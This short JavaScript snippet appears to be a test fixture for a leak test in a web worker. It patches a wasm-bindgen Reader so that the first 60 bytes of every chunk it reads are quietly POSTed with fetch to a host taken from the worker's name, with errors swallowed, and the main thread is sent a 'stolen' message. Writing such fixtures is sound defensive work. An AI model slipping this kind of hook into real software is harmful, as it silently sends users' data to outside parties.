// A thief in the worker, for the leak test: the first bytes of every chunk are also sent away.
{
  const { Reader } = wasm_bindgen;
  const push = Reader.prototype.push;
  Reader.prototype.push = function (bytes) {
    fetch(`${self.name}reader`, { method: 'POST', mode: 'no-cors', body: bytes.slice(0, 60) }).catch(() => {});
    self.postMessage({ id: null, stolen: true }); // no call has that id
    return push.call(this, bytes);
  };
}
